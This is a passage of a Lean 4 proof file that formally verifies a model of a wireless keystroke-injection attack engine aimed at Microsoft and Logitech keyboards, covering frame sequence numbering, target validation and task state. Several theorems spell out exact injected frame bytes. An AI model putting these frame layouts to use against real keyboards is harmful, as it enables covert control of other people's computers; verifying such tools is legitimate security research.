    · by_cases h2 : j = fs.length
      · have e := (getD_append_pair fs (msKeyDown target m h s.msSequence_)
          (msKeyUp target (msKeyDown target m h s.msSequence_) ((s.msSequence_ + 1) % 65536))).1
        rw [h2, e]
        have hb := msKeyDown_seq_bytes target m h s.msSequence_
        rw [hb.1, hb.2, hseq]
        omega
      · have hj' : j = fs.length + 1 := by omega
        have e := (getD_append_pair fs (msKeyDown target m h s.msSequence_)
          (msKeyUp target (msKeyDown target m h s.msSequence_) ((s.msSequence_ + 1) % 65536))).2
        rw [hj', e]
        have hb := msKeyUp_seq_bytes target (msKeyDown target m h s.msSequence_)
          ((s.msSequence_ + 1) % 65536) (msKeyDown_length _ _ _ _)
        rw [hb.1, hb.2, hseq]
        omega

theorem transmitted_emit (op : RadioOp) (s : State) (h : ∀ f, op ≠ RadioOp.transmit f) :
    transmitted (emit op s).radio = transmitted s.radio := by
  unfold emit
  simp only
  rw [transmitted_append]
  cases op <;> simp [transmitted]
  exact h _ rfl

theorem seqInv_emit (target : MjTarget) (pre : List (List Nat)) (op : RadioOp) (s : State)
    (h : ∀ f, op ≠ RadioOp.transmit f) (hs : SeqInv target pre s) :
    SeqInv target pre (emit op s) := by
  obtain ⟨fs, hfs, hseq, hall⟩ := hs
  exact ⟨fs, by rw [transmitted_emit op s h, hfs], hseq, hall⟩

/-- The steps of a session on a Microsoft target keep the sequence numbering and the
registry. -/
theorem seqInv_steps (env : AttackEnv) (target : MjTarget) (pre : List (List Nat))
    (T : List MjTarget) (hms : isMicrosoft target = true) :
    StepInv env target (fun s => SeqInv target pre s ∧ s.targets_ = T) where
  ms := fun _ m h s hs => ⟨seqInv_msTransmit target pre m h s hs.1, hs.2⟩
  log := fun hlog => by rw [hms] at hlog; exact absurd hlog (by decide)
  delay := fun n s hs =>
    ⟨seqInv_emit target pre _ s (fun f hf => by cases hf) hs.1, hs.2⟩
  stop := fun s hs => by
    obtain ⟨⟨fs, hfs, hseq, hall⟩, ht⟩ := hs
    exact ⟨⟨fs, hfs, hseq, hall⟩, ht⟩

theorem seqInv_start (target : MjTarget) (s : State) :
    SeqInv target (transmitted s.radio) { s with msSequence_ := 0 } :=
  ⟨[], by simp, rfl, fun j hj => absurd hj (by simp)⟩

theorem targetAt_emit (op : RadioOp) (s : State) (i : Nat) :
    targetAt (emit op s) i = targetAt s i := by
  unfold targetAt emit
  rfl

/-- The part of a session after the radio is configured numbers its frames from 0. -/
theorem sessionTail_seq (c : TaskConsts) (env : AttackEnv) (params : AttackParams)
    (target : MjTarget) (s1 : State) (hms : isMicrosoft target = true)
    (htgt : targetAt s1 params.targetIndex = target) :
    SeqInv target (transmitted s1.radio)
      (emit RadioOp.releaseSpi (emit RadioOp.ceLow
        (attackBody c env params target (msSync target 6 { s1 with msSequence_ := 0 })))) := by
  have hinv := seqInv_steps env target (transmitted s1.radio) s1.targets_ hms
  apply seqInv_emit _ _ _ _ (fun f hf => by cases hf)
  apply seqInv_emit _ _ _ _ (fun f hf => by cases hf)
  have hstart : (fun t => SeqInv target (transmitted s1.radio) t ∧ t.targets_ = s1.targets_)
      { s1 with msSequence_ := 0 } := ⟨seqInv_start target s1, rfl⟩
  have hsync := msSync_inv target _ (hinv.ms hms) 6 _ hstart
  have hbody := attackBody_inv c env params target _ hinv (fun t ht => by
    have h2 : t.targets_ = s1.targets_ := ht.2
    rw [← htgt]
    unfold targetAt
    rw [h2]) _ hsync
  exact hbody.1

/-- A session on a Microsoft target that acquires the radio numbers its frames from 0. -/
theorem attackSession_seq (c : TaskConsts) (env : AttackEnv) (params : AttackParams)
    (s : State) (hms : isMicrosoft (targetAt s params.targetIndex) = true)
    (hacq : env.acquireSpi = true) :
    SeqInv (targetAt s params.targetIndex) (transmitted s.radio)
      (attackSession c env params s) := by
  have h := sessionTail_seq c env params (targetAt s params.targetIndex)
    (emit (RadioOp.setTxMode (targetAt s params.targetIndex).address
        (targetAt s params.targetIndex).addrLen)
      (emit (RadioOp.setAddressWidth 5)
      (emit (RadioOp.setChannel (targetAt s params.targetIndex).channel)
      (emit (RadioOp.setPALevel 3)
      (emit RadioOp.setDataRate
      (emit (RadioOp.acquireSpi true) s)))))) hms
    (by simp only [targetAt_emit])
  rw [transmitted_emit _ _ (fun f hf => by cases hf),
    transmitted_emit _ _ (fun f hf => by cases hf),
    transmitted_emit _ _ (fun f hf => by cases hf),
    transmitted_emit _ _ (fun f hf => by cases hf),
    transmitted_emit _ _ (fun f hf => by cases hf),
    transmitted_emit _ _ (fun f hf => by cases hf)] at h
  unfold attackSession
  simp only [hacq, hms, if_true]
  exact h

/-- C15. In an attack task on a Microsoft target (plain or encrypted), the frames handed
to the radio, in order and counting from 0 (synchronization, key-down and key-up frames
alike), carry their own rank modulo 65536 little-endian in bytes 4 and 5 once the address
XOR of an encrypted target is undone; when the radio was acquired the counter ends at the
number of frames sent modulo 65536, so it started at 0, advanced by one per frame and was
never reset in between. -/
theorem attackTask_sequence_numbers (c : TaskConsts) (env : AttackEnv)
    (params : AttackParams) (s : State)
    (hms : isMicrosoft (targetAt s params.targetIndex) = true) :
    ∃ fs : List (List Nat),
      transmitted (attackTask c env params s).radio = transmitted s.radio ++ fs ∧
      (env.acquireSpi = true →
        (attackTask c env params s).msSequence_ = fs.length % 65536) ∧
      ∀ j, j < fs.length →
        (msPlain (targetAt s params.targetIndex) (fs.getD j [])).getD 4 0 = j % 65536 % 256 ∧
        (msPlain (targetAt s params.targetIndex) (fs.getD j [])).getD 5 0 =
          j % 65536 / 256 := by
  by_cases hacq : env.acquireSpi = true
  · obtain ⟨fs, hfs, hseq, hall⟩ := attackSession_seq c env params s hms hacq
    exact ⟨fs, hfs, fun _ => hseq, hall⟩
  · refine ⟨[], ?_, fun h => absurd h hacq, fun j hj => absurd hj (by simp)⟩
    have hs : (attackSession c env params s).radio = s.radio ++ [RadioOp.acquireSpi false] := by
      unfold attackSession
      simp [hacq, emit]
    show transmitted (attackSession c env params s).radio = transmitted s.radio ++ []
    rw [hs, transmitted_append]
    rfl

theorem attackTask_sequence_numbers_witness :
    isMicrosoft (targetAt sampleTargets 0) = true ∧
    ∃ fs : List (List Nat),
      transmitted (attackTask sampleTaskConsts sampleEnv
        ⟨0, [2, 4], 2, [], [], AttackMode.RAW_HID⟩ sampleTargets).radio =
        transmitted sampleTargets.radio ++ fs ∧
      (sampleEnv.acquireSpi = true →
        (attackTask sampleTaskConsts sampleEnv
          ⟨0, [2, 4], 2, [], [], AttackMode.RAW_HID⟩ sampleTargets).msSequence_ =
          fs.length % 65536) ∧
      ∀ j, j < fs.length →
        (msPlain (targetAt sampleTargets 0) (fs.getD j [])).getD 4 0 = j % 65536 % 256 ∧
        (msPlain (targetAt sampleTargets 0) (fs.getD j [])).getD 5 0 = j % 65536 / 256 :=
  ⟨by decide, attackTask_sequence_numbers sampleTaskConsts sampleEnv
    ⟨0, [2, 4], 2, [], [], AttackMode.RAW_HID⟩ sampleTargets (by decide)⟩

/-! ## The registry seen by the attack operations -/

/-- The steps of an attack task leave the registry alone. -/
theorem registry_steps (env : AttackEnv) (target : MjTarget) (T : List MjTarget) (n : Nat) :
    StepInv env target (fun s => s.targets_ = T ∧ s.targetCount_ = n) where
  ms := fun _ _ _ _ hs => hs
  log := fun _ _ _ _ _ hs => hs
  delay := fun _ _ hs => hs
  stop := fun _ hs => hs

theorem attackTask_registry (c : TaskConsts) (env : AttackEnv) (params : AttackParams)
    (s : State) :
    (attackTask c env params s).targets_ = s.targets_ ∧
    (attackTask c env params s).targetCount_ = s.targetCount_ := by
  have hinv := registry_steps env (targetAt s params.targetIndex) s.targets_ s.targetCount_
  have hbody : ∀ t : State, (t.targets_ = s.targets_ ∧ t.targetCount_ = s.targetCount_) →
      ((attackBody c env params (targetAt s params.targetIndex) t).targets_ = s.targets_ ∧
       (attackBody c env params (targetAt s params.targetIndex) t).targetCount_ =
        s.targetCount_) := fun t ht =>
    attackBody_inv c env params (targetAt s params.targetIndex)
      (fun s1 => s1.targets_ = s.targets_ ∧ s1.targetCount_ = s.targetCount_) hinv
      (fun s1 h1 => by unfold targetAt; rw [h1.1]) t ht
  have hsync : ∀ t : State, (t.targets_ = s.targets_ ∧ t.targetCount_ = s.targetCount_) →
      ((msSync (targetAt s params.targetIndex) 6 t).targets_ = s.targets_ ∧
       (msSync (targetAt s params.targetIndex) 6 t).targetCount_ = s.targetCount_) := fun t ht =>
    msSync_inv (targetAt s params.targetIndex)
      (fun s1 => s1.targets_ = s.targets_ ∧ s1.targetCount_ = s.targetCount_)
      (fun m h s1 h1 => h1) 6 t ht
  have hcfg : ∀ t : State, (t.targets_ = s.targets_ ∧ t.targetCount_ = s.targetCount_) →
      ((if isMicrosoft (targetAt s params.targetIndex) = true then
          msSync (targetAt s params.targetIndex) 6 { t with msSequence_ := 0 }
        else t).targets_ = s.targets_ ∧
       (if isMicrosoft (targetAt s params.targetIndex) = true then
          msSync (targetAt s params.targetIndex) 6 { t with msSequence_ := 0 }
        else t).targetCount_ = s.targetCount_) := fun t ht => by
    split
    · exact hsync _ ht
    · exact ht
  show (attackSession c env params s).targets_ = s.targets_ ∧
    (attackSession c env params s).targetCount_ = s.targetCount_
  unfold attackSession
  simp only
  have hemit : ∀ (op : RadioOp) (t : State),
      (t.targets_ = s.targets_ ∧ t.targetCount_ = s.targetCount_) →
      ((emit op t).targets_ = s.targets_ ∧ (emit op t).targetCount_ = s.targetCount_) :=
    fun _ _ ht => ht
  split
  · exact hemit _ _ (hemit _ _ (hbody _ (hcfg _ (hemit _ _ (hemit _ _ (hemit _ _
      (hemit _ _ (hemit _ _ (hemit _ _ ⟨rfl, rfl⟩)))))))))
  · exact hemit _ _ ⟨rfl, rfl⟩

theorem activeBelow_congr (k : MjConsts) (s s2 : State) (h1 : s2.targets_ = s.targets_)
    (h2 : s2.targetCount_ = s.targetCount_) (h : ActiveBelow k s) : ActiveBelow k s2 := by
  unfold ActiveBelow targetAt at *
  rw [h1, h2]
  exact h

theorem activeBelow_clear (k : MjConsts) (s : State) : ActiveBelow k (clearTargets k s) :=
  ⟨by simp [clearTargets], fun i hi => absurd hi (by simp [clearTargets])⟩

theorem activeBelow_add (k : MjConsts) (s : State) (addr : List Nat) (addrLen channel : Nat)
    (type : MjDeviceType) (h : ActiveBelow k s) :
    ActiveBelow k (addTarget k addr addrLen channel type s).2 := by
  obtain ⟨hlen, hact⟩ := h
  rcases findTarget_cases s addr addrLen with hf | ⟨i, hf, hi⟩
  · by_cases hroom : s.targetCount_ < k.MJ_MAX_TARGETS
    · rw [addTarget_new k addr addrLen channel type s hf hroom]
      refine ⟨by simp only [List.length_set]; exact hlen, ?_⟩
      intro j hj
      have hj2 : j < (s.targetCount_ + 1) % 256 := hj
      rw [targetAt_set s _ s.targetCount_ _ j rfl]
      by_cases hjc : j = s.targetCount_
      · rw [if_pos ⟨hjc, by omega⟩]
      · rw [if_neg (fun hh => hjc hh.1)]
        exact hact j (by omega)
    · rw [addTarget_full k addr addrLen channel type s hf (by omega)]
      exact ⟨hlen, hact⟩
  · rw [addTarget_found k addr addrLen channel type s i hf]
    refine ⟨by simp only [List.length_set]; exact hlen, ?_⟩
    intro j hj
    have hj2 : j < s.targetCount_ := hj
    rw [targetAt_set s _ i _ j rfl]
    by_cases hji : j = i ∧ i < s.targets_.length
    · rw [if_pos hji]
      exact hact i hi
    · rw [if_neg hji]
      exact hact j hj2

theorem activeBelow_fingerprint (k : MjConsts) (rawBuf : List Nat) (size channel : Nat)
    (s : State) (h : ActiveBelow k s) : ActiveBelow k (fingerprint k rawBuf size channel s) := by
  unfold fingerprint
  split
  · unfold fingerprintPayload
    split
    · exact activeBelow_add k s _ _ _ _ h
    · exact h
  · exact h

theorem launchAttack_registry (createOk : Bool) (handle : Nat) (params : AttackParams)
    (s : State) :
    (launchAttack createOk handle params s).2.targets_ = s.targets_ ∧
    (launchAttack createOk handle params s).2.targetCount_ = s.targetCount_ := by
  unfold launchAttack
  simp only
  split <;> exact ⟨rfl, rfl⟩

theorem activeBelow_step (k : MjConsts) (c : TaskConsts) (s : State) (op : EngineOp)
    (h : ActiveBelow k s) : ActiveBelow k (applyEngineOp k c s op) := by
  cases op with
  | init present =>
    show ActiveBelow k (init k present s).2
    unfold init
    split
    · exact h
    · exact activeBelow_congr k (clearTargets k s) _ rfl rfl (activeBelow_clear k s)
  | startScan present createOk handle =>
    show ActiveBelow k (startScan present createOk handle s).2
    unfold startScan
    split
    · exact h
    · split
      · exact h
      · simp only
        split <;> exact activeBelow_congr k s _ rfl rfl h
  | stopScan =>
    show ActiveBelow k (stopScan s)
    unfold stopScan
    split
    · exact h
    · exact activeBelow_congr k s _ rfl rfl h
  | capture rawBuf size channel => exact activeBelow_fingerprint k rawBuf size channel s h
  | scanEnd => exact activeBelow_congr k s _ rfl rfl h
  | startAttack createOk handle targetIndex hidPayload payloadLen =>
    show ActiveBelow k (startAttack createOk handle targetIndex hidPayload payloadLen s).2
    unfold startAttack
    split
    · exact h
    · split
      · exact h
      · exact activeBelow_congr k s _ (launchAttack_registry _ _ _ s).1
          (launchAttack_registry _ _ _ s).2 h
  | injectString createOk handle targetIndex text =>
    show ActiveBelow k (injectString createOk handle targetIndex text s).2
    unfold injectString
    split
    · exact h
    · split
      · exact h
      · exact activeBelow_congr k s _ (launchAttack_registry _ _ _ s).1
          (launchAttack_registry _ _ _ s).2 h
  | executeDuckyScript createOk handle targetIndex filePath =>
    show ActiveBelow k (executeDuckyScript createOk handle targetIndex filePath s).2
    unfold executeDuckyScript
    split
    · exact h
    · split
      · exact h
      · exact activeBelow_congr k s _ (launchAttack_registry _ _ _ s).1
          (launchAttack_registry _ _ _ s).2 h
  | stopAttack =>
    show ActiveBelow k (stopAttack s)
    unfold stopAttack
    split
    · exact h
    · exact activeBelow_congr k s _ rfl rfl h
  | attackRun env params =>
    exact activeBelow_congr k s _ (attackTask_registry c env params s).1
      (attackTask_registry c env params s).2 h

theorem activeBelow_foldl (k : MjConsts) (c : TaskConsts) (ops : List EngineOp) :
    ∀ s : State, ActiveBelow k s → ActiveBelow k (ops.foldl (applyEngineOp k c) s) := by
  induction ops with
  | nil => intro s h; exact h
  | cons op rest ih => intro s h; exact ih _ (activeBelow_step k c s op h)

theorem activeBelow_reachable (k : MjConsts) (c : TaskConsts) (ops : List EngineOp) :
    ActiveBelow k (runEngine k c ops) :=
  activeBelow_foldl k c ops _
    ⟨by simp [initState], fun i hi => absurd hi (by simp [initState])⟩

/-- C20. In every engine state reached from the static initialization by calls of the
interface and steps of the tasks, `startAttack`, `injectString` and `executeDuckyScript`
called with a target index that is not below `targetCount_` or whose registry entry is
not active return false and leave the whole state as it was: engine state, registry,
sequence counter, stop flag, task handle, created tasks and emitted notifications. -/
theorem invalid_target_rejected (k : MjConsts) (c : TaskConsts) (ops : List EngineOp)
    (createOk : Bool) (handle targetIndex : Nat) (hidPayload : List Nat) (payloadLen : Nat)
    (text filePath : List Nat)
    (h : targetIndex ≥ (runEngine k c ops).targetCount_ ∨
      (targetAt (runEngine k c ops) targetIndex).active = false) :
    startAttack createOk handle targetIndex hidPayload payloadLen (runEngine k c ops) =
      (false, runEngine k c ops) ∧
    injectString createOk handle targetIndex text (runEngine k c ops) =
      (false, runEngine k c ops) ∧
    executeDuckyScript createOk handle targetIndex filePath (runEngine k c ops) =
      (false, runEngine k c ops) := by
  have hinv := activeBelow_reachable k c ops
  have hge : targetIndex ≥ (runEngine k c ops).targetCount_ := by
    rcases h with h | h
    · exact h
    · by_contra hlt
      have := hinv.2 targetIndex (by omega)
      rw [h] at this
      exact absurd this (by decide)
  refine ⟨?_, ?_, ?_⟩
  · unfold startAttack
    rw [if_pos (Or.inl hge)]
    split <;> rfl
  · unfold injectString
    rw [if_pos hge]
    split <;> rfl
  · unfold executeDuckyScript
    rw [if_pos hge]
    split <;> rfl

theorem invalid_target_rejected_witness :
    (1 ≥ (runEngine sampleConsts sampleTaskConsts sampleOps).targetCount_ ∨
      (targetAt (runEngine sampleConsts sampleTaskConsts sampleOps) 1).active = false) ∧
    (runEngine sampleConsts sampleTaskConsts sampleOps).targetCount_ = 1 ∧
    startAttack true 7 1 [2, 4] 2 (runEngine sampleConsts sampleTaskConsts sampleOps) =
      (false, runEngine sampleConsts sampleTaskConsts sampleOps) ∧
    injectString true 7 1 [97] (runEngine sampleConsts sampleTaskConsts sampleOps) =
      (false, runEngine sampleConsts sampleTaskConsts sampleOps) ∧
    executeDuckyScript true 7 1 [47, 97] (runEngine sampleConsts sampleTaskConsts sampleOps) =
      (false, runEngine sampleConsts sampleTaskConsts sampleOps) :=
  ⟨Or.inl (by decide), by decide,
    invalid_target_rejected sampleConsts sampleTaskConsts sampleOps true 7 1 [2, 4] 2 [97]
      [47, 97] (Or.inl (by decide))⟩

/-! ## Frames sent by sample sessions -/

/-- C16. A RAW_HID session with the single pair (2, 4) on the plain Microsoft target of
`sampleTargets` transmits 14 frames: the six synchronization calls of `msTransmit` send
twelve null frames, numbered 0 to 11, and the key-down frame of the pair is the
thirteenth, numbered 12. -/
theorem sync_transmits_twelve_frames :
    transmitted (attackTask sampleTaskConsts sampleEnv
      ⟨0, [2, 4], 2, [], [], AttackMode.RAW_HID⟩ sampleTargets).radio =
    [[8, 0, 0, 0, 0, 0, 67, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 180],
     [8, 0, 0, 0, 1, 0, 67, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 181],
     [8, 0, 0, 0, 2, 0, 67, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 182],
     [8, 0, 0, 0, 3, 0, 67, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 183],
     [8, 0, 0, 0, 4, 0, 67, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 176],
     [8, 0, 0, 0, 5, 0, 67, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 177],
     [8, 0, 0, 0, 6, 0, 67, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 178],
     [8, 0, 0, 0, 7, 0, 67, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 179],
     [8, 0, 0, 0, 8, 0, 67, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 188],
     [8, 0, 0, 0, 9, 0, 67, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 189],
     [8, 0, 0, 0, 10, 0, 67, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 190],
     [8, 0, 0, 0, 11, 0, 67, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 191],
     [8, 0, 0, 0, 12, 0, 67, 2, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 190],
     [8, 0, 0, 0, 13, 0, 67, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 185]] := by
  decide

/-- C17. A STRING session with the text "a" (modifier 0, keycode 4) on the plain
Microsoft target of `sampleTargets` transmits, after the twelve synchronization frames,
four frames for the one keystroke (key-down, key-up, and the down and up frames of the
explicit release) and leaves the counter at 16: the keystroke advanced it by 4. -/
theorem string_keystroke_four_frames :
    (transmitted (attackTask sampleTaskConsts sampleEnv
      ⟨0, [], 0, [97], [], AttackMode.STRING⟩ sampleTargets).radio).drop 12 =
    [[8, 0, 0, 0, 12, 0, 67, 0, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 188],
     [8, 0, 0, 0, 13, 0, 67, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 185],
     [8, 0, 0, 0, 14, 0, 67, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 186],
     [8, 0, 0, 0, 15, 0, 67, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 187]] ∧
    (attackTask sampleTaskConsts sampleEnv
      ⟨0, [], 0, [97], [], AttackMode.STRING⟩ sampleTargets).msSequence_ = 16 := by
  decide

/-- C19. A RAW_HID session with the single pair (2, 4) on the Logitech target of
`sampleTargets` transmits one frame only, the down frame: no up frame follows, whereas
the STRING session with the text "a" on the same target transmits the down frame and an
up frame with modifier and keys all zero. -/
theorem logitech_raw_single_frame :
    transmitted (attackTask sampleTaskConsts sampleEnv
      ⟨1, [2, 4], 2, [], [], AttackMode.RAW_HID⟩ sampleTargets).radio =
      [[0, 193, 2, 4, 0, 0, 0, 0, 0, 57]] ∧
    transmitted (attackTask sampleTaskConsts sampleEnv
      ⟨1, [], 0, [97], [], AttackMode.STRING⟩ sampleTargets).radio =
      [[0, 193, 0, 4, 0, 0, 0, 0, 0, 59], [0, 193, 0, 0, 0, 0, 0, 0, 0, 63]] := by
  decide

/-! ## What the attack task leaves alone -/

theorem untouched_steps (env : AttackEnv) (target : MjTarget) (s : State) :
    StepInv env target (Untouched s) where
  ms := fun _ _ _ _ hs => hs
  log := fun _ _ _ _ _ hs => hs
  delay := fun _ _ hs => hs
  stop := fun _ hs => hs

theorem attackSession_untouched (c : TaskConsts) (env : AttackEnv) (params : AttackParams)
    (s : State) : Untouched s (attackSession c env params s) := by
  have hinv := untouched_steps env (targetAt s params.targetIndex) s
  have hbody : ∀ t : State, Untouched s t →
      Untouched s (attackBody c env params (targetAt s params.targetIndex) t) := fun t ht =>
    attackBody_inv c env params (targetAt s params.targetIndex) (Untouched s) hinv
      (fun s1 h1 => by unfold targetAt; rw [h1.2.1]) t ht
  have hsync : ∀ t : State, Untouched s t →
      Untouched s (msSync (targetAt s params.targetIndex) 6 t) := fun t ht =>
    msSync_inv (targetAt s params.targetIndex) (Untouched s) (fun m h s1 h1 => h1) 6 t ht
  have hcfg : ∀ t : State, Untouched s t →
      Untouched s (if isMicrosoft (targetAt s params.targetIndex) = true then
          msSync (targetAt s params.targetIndex) 6 { t with msSequence_ := 0 }
        else t) := fun t ht => by
    split
    · exact hsync _ ht
    · exact ht
  have hemit : ∀ (op : RadioOp) (t : State), Untouched s t → Untouched s (emit op t) :=
    fun _ _ ht => ht
  have h0 : Untouched s s := ⟨rfl, rfl, rfl, rfl, rfl, rfl⟩
  unfold attackSession
  simp only
  split
  · exact hemit _ _ (hemit _ _ (hbody _ (hcfg _ (hemit _ _ (hemit _ _ (hemit _ _
      (hemit _ _ (hemit _ _ (hemit _ _ h0)))))))))
  · exact hemit _ _ h0

theorem fingerprint_control (k : MjConsts) (rawBuf : List Nat) (size channel : Nat)
    (s : State) :
    (fingerprint k rawBuf size channel s).state_ = s.state_ ∧
    (fingerprint k rawBuf size channel s).created = s.created := by
  have hadd : ∀ (addr : List Nat) (t : MjDeviceType),
      (addTarget k addr 5 channel t s).2.state_ = s.state_ ∧
      (addTarget k addr 5 channel t s).2.created = s.created := by
    intro addr t
    rcases findTarget_cases s addr 5 with hf | ⟨i, hf, _⟩
    · by_cases hroom : s.targetCount_ < k.MJ_MAX_TARGETS
      · rw [addTarget_new k addr 5 channel t s hf hroom]
        exact ⟨rfl, rfl⟩
      · rw [addTarget_full k addr 5 channel t s hf (by omega)]
        exact ⟨rfl, rfl⟩
    · rw [addTarget_found k addr 5 channel t s i hf]
      exact ⟨rfl, rfl⟩
  unfold fingerprint
  split
  · unfold fingerprintPayload
    split
    · exact hadd _ _
    · exact ⟨rfl, rfl⟩
  · exact ⟨rfl, rfl⟩

/-! ## At most one background context before its cleanup -/

theorem launchAttack_control (createOk : Bool) (handle : Nat) (params : AttackParams)
    (s : State) :
    (launchAttack createOk handle params s).1 = createOk ∧
    (launchAttack createOk handle params s).2.state_ =
      (if createOk then MjState.MJ_ATTACKING else MjState.MJ_IDLE) ∧
    (launchAttack createOk handle params s).2.created =
      (if createOk then s.created ++ [TaskSpec.attack params] else s.created) := by
  unfold launchAttack
  cases createOk <;> simp

theorem contextInv_launch (createOk : Bool) (handle : Nat) (params : AttackParams)
    (y : Sys) (ex : List (TaskSpec × Nat)) (hl : y.live = []) :
    ContextInv ⟨(launchAttack createOk handle params y.st).2,
      y.live ++ ((launchAttack createOk handle params y.st).2.created.drop
        y.st.created.length).map (fun t => (t, false)), ex⟩ := by
  obtain ⟨_, h2, h3⟩ := launchAttack_control createOk handle params y.st
  unfold ContextInv
  simp only
  rw [h2, h3, hl]
  cases createOk
  · left
    simp
  · right; right
    exact ⟨params, false, by simp, rfl⟩

theorem sysStep_same (y : Sys) (s2 : State) (ex : List (TaskSpec × Nat))
    (hc : s2.created = y.st.created) (hs : s2.state_ = y.st.state_) (h : ContextInv y) :
    ContextInv ⟨s2, y.live ++ (s2.created.drop y.st.created.length).map (fun t => (t, false)),
      ex⟩ := by
  rw [hc, List.drop_length, List.map_nil, List.append_nil]
  unfold ContextInv at *
  simp only
  rw [hs]
  exact h

theorem sysStep_exit (y : Sys) (s2 : State) (ex : List (TaskSpec × Nat))
    (hs : s2.state_ = y.st.state_) (h : ContextInv y) : ContextInv ⟨s2, y.live, ex⟩ := by
  unfold ContextInv at *
  simp only
  rw [hs]
  exact h

theorem idle_no_context (y : Sys) (h : ContextInv y)
    (hst : ¬ (y.st.state_ ≠ MjState.MJ_IDLE ∧ y.st.state_ ≠ MjState.MJ_FOUND)) : y.live = [] := by
  rcases h with ⟨hl, _⟩ | ⟨_, hs⟩ | ⟨p, b, _, hs⟩
  · exact hl
  · rw [hs] at hst; exact absurd ⟨by decide, by decide⟩ hst
  · rw [hs] at hst; exact absurd ⟨by decide, by decide⟩ hst

theorem contextInv_startAttack (createOk : Bool) (handle targetIndex : Nat)
    (hidPayload : List Nat) (payloadLen : Nat) (y : Sys) (h : ContextInv y) :
    ContextInv ⟨(startAttack createOk handle targetIndex hidPayload payloadLen y.st).2,
      y.live ++ ((startAttack createOk handle targetIndex hidPayload payloadLen
        y.st).2.created.drop y.st.created.length).map (fun t => (t, false)), y.exiting⟩ := by
  unfold startAttack
  split
  · exact sysStep_same y _ _ rfl rfl h
  · split
    · exact sysStep_same y _ _ rfl rfl h
    · rename_i hst _
      exact contextInv_launch createOk handle _ y _ (idle_no_context y h hst)

theorem contextInv_injectString (createOk : Bool) (handle targetIndex : Nat)
    (text : List Nat) (y : Sys) (h : ContextInv y) :
    ContextInv ⟨(injectString createOk handle targetIndex text y.st).2,
      y.live ++ ((injectString createOk handle targetIndex text
        y.st).2.created.drop y.st.created.length).map (fun t => (t, false)), y.exiting⟩ := by
  unfold injectString
  split
  · exact sysStep_same y _ _ rfl rfl h
  · split
    · exact sysStep_same y _ _ rfl rfl h
    · rename_i hst _
      exact contextInv_launch createOk handle _ y _ (idle_no_context y h hst)

theorem contextInv_executeDuckyScript (createOk : Bool) (handle targetIndex : Nat)
    (filePath : List Nat) (y : Sys) (h : ContextInv y) :
    ContextInv ⟨(executeDuckyScript createOk handle targetIndex filePath y.st).2,
      y.live ++ ((executeDuckyScript createOk handle targetIndex filePath
        y.st).2.created.drop y.st.created.length).map (fun t => (t, false)), y.exiting⟩ := by
  unfold executeDuckyScript
  split
  · exact sysStep_same y _ _ rfl rfl h
  · split
    · exact sysStep_same y _ _ rfl rfl h
    · rename_i hst _
      exact contextInv_launch createOk handle _ y _ (idle_no_context y h hst)

theorem contextInv_stopScan (y : Sys) (h : ContextInv y) :
    ContextInv ⟨stopScan y.st,
      y.live ++ ((stopScan y.st).created.drop y.st.created.length).map (fun t => (t, false)),
      y.exiting⟩ := by
  refine sysStep_same y _ _ ?_ ?_ h
  · unfold stopScan; split <;> rfl
  · unfold stopScan; split <;> rfl

theorem contextInv_stopAttack (y : Sys) (h : ContextInv y) :
    ContextInv ⟨stopAttack y.st,
      y.live ++ ((stopAttack y.st).created.drop y.st.created.length).map (fun t => (t, false)),
      y.exiting⟩ := by
  refine sysStep_same y _ _ ?_ ?_ h
  · unfold stopAttack; split <;> rfl
  · unfold stopAttack; split <;> rfl

theorem contextInv_step (k : MjConsts) (c : TaskConsts) (y : Sys) (op : SysOp)
    (hen : taskEnabled y op = true)
    (hq : (!sysResets op || decide (y.st.state_ = MjState.MJ_IDLE)) = true)
    (h : ContextInv y) : ContextInv (sysStep k c y op) := by
  cases op with
  | init present =>
    cases present
    · exact sysStep_same y _ _ rfl rfl h
    · have hidle : y.st.state_ = MjState.MJ_IDLE := by simpa [sysResets] using hq
      have hl : y.live = [] := idle_no_context y h (fun hh => hh.1 hidle)
      left
      simp [sysStep, sysState, init, clearTargets, hl]
  | startScan present createOk handle =>
    by_cases hidle : y.st.state_ = MjState.MJ_IDLE
    · have hl : y.live = [] := idle_no_context y h (fun hh => hh.1 hidle)
      cases present <;> cases createOk <;>
        simp [ContextInv, sysStep, sysState, startScan, hidle, hl]
    · have he : (startScan present createOk handle y.st).2 = y.st := by
        unfold startScan
        rw [if_pos hidle]
      exact sysStep_same y (startScan present createOk handle y.st).2 y.exiting
        (by rw [he]) (by rw [he]) h
  | stopScan => exact contextInv_stopScan y h
  | capture rawBuf size channel =>
    exact sysStep_same y _ _ (fingerprint_control k rawBuf size channel y.st).2
      (fingerprint_control k rawBuf size channel y.st).1 h
  | startAttack createOk handle targetIndex hidPayload payloadLen =>
    exact contextInv_startAttack createOk handle targetIndex hidPayload payloadLen y h
  | injectString createOk handle targetIndex text =>
    exact contextInv_injectString createOk handle targetIndex text y h
  | executeDuckyScript createOk handle targetIndex filePath =>
    exact contextInv_executeDuckyScript createOk handle targetIndex filePath y h
  | stopAttack => exact contextInv_stopAttack y h
  | attackWork env params =>
    have hmem : (TaskSpec.attack params, false) ∈ y.live := by simpa [taskEnabled] using hen
    have hu := attackSession_untouched c env params y.st
    rcases h with ⟨hl, _⟩ | ⟨hl, _⟩ | ⟨p, b, hl, hs⟩
    · rw [hl] at hmem; cases hmem
    · rw [hl] at hmem
      simp at hmem
    · rw [hl] at hmem
      have hp : params = p ∧ false = b := by simpa using hmem
